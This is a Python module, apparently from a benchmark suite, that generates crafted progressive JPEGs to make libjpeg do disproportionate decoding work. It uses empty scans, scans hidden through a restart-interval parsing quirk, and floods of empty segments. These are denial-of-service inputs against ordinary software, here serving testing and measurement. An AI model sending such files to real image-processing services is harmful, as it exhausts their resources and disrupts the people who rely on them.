"""JPEGs that ask libjpeg for far more work than their size suggests."""

from benchmarks.attacks import huffman_table, segment

END = b"\xff\xd9"


def header(width: int, height: int, components: int = 1, restart: int = 0) -> bytes:
    """Return a progressive JPEG up to its first scan. Source: ITU-T T.81, B.2."""
    parts = b"".join(bytes((number + 1, 0x11, 0)) for number in range(components))
    size = height.to_bytes(2) + width.to_bytes(2)
    frame = segment(0xC2, b"\x08" + size + bytes((components,)) + parts)
    tables = segment(0xDB, bytes((0, *[1] * 64))) + huffman_table(0, [0]) + huffman_table(16, [0])
    return b"\xff\xd8" + tables + frame + segment(0xDD, restart.to_bytes(2))


def scan(first: int, last: int) -> bytes:
    """Return a scan of these coefficients of the first component, without data."""
    return segment(0xDA, bytes((1, 1, 0, first, last, 0)))


def empty_scans(width: int, height: int, count: int, components: int = 1) -> bytes:
    """Return a JPEG of scans without data, of ten bytes each."""
    scans = scan(0, 0) + scan(1, 63) * count
    return header(width, height, components) + scans + END


def hidden_scans(width: int, height: int, count: int) -> bytes:
    """Return a JPEG whose scans are within a segment that libjpeg does not skip.

    Within a scan with restart intervals, libjpeg ignores the length of a marker below SOF0.
    """
    hidden = b"\xff\x02\xff\xff" + scan(1, 63) * count
    return header(width, height, restart=1) + scan(0, 0) + hidden + END


def many_segments(count: int) -> bytes:
    """Return a small JPEG after so many empty segments, of 4 bytes each."""
    return b"\xff\xd8" + segment(0xE0) * count + empty_scans(8, 8, 0)[2:]
